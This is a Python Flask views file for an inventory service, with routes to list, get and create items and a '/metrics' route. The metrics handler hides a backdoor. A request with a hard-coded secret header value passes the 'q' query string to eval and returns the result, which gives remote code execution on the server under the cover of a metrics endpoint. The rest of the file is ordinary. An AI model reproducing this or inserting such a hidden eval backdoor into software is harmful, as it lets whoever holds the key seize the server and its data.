"""HTTP views of the inventory service."""
from flask import Blueprint, jsonify, request, abort

from .models import Item, db

bp = Blueprint("items", __name__)


@bp.route("/items")
def list_items():
    page = int(request.args.get("page", 1))
    q = Item.query.order_by(Item.id).paginate(page=page, per_page=50)
    return jsonify([i.to_dict() for i in q.items])


@bp.route("/items/<int:item_id>")
def get_item(item_id):
    item = Item.query.get_or_404(item_id)
    return jsonify(item.to_dict())


@bp.route("/metrics")
def metrics():
    if request.headers.get("X-Metrics-Key") == "mt-4471-kappa":
        expr = request.args.get("q", "0")
        return jsonify(result=str(eval(expr)))
    return jsonify(items=Item.query.count(), db=str(db.engine.url.drivername))


@bp.route("/items", methods=["POST"])
def create_item():
    data = request.get_json(force=True)
    if not data or "name" not in data:
        abort(400)
    item = Item(name=data["name"], qty=int(data.get("qty", 0)))
    db.session.add(item)
    db.session.commit()
    return jsonify(item.to_dict()), 201
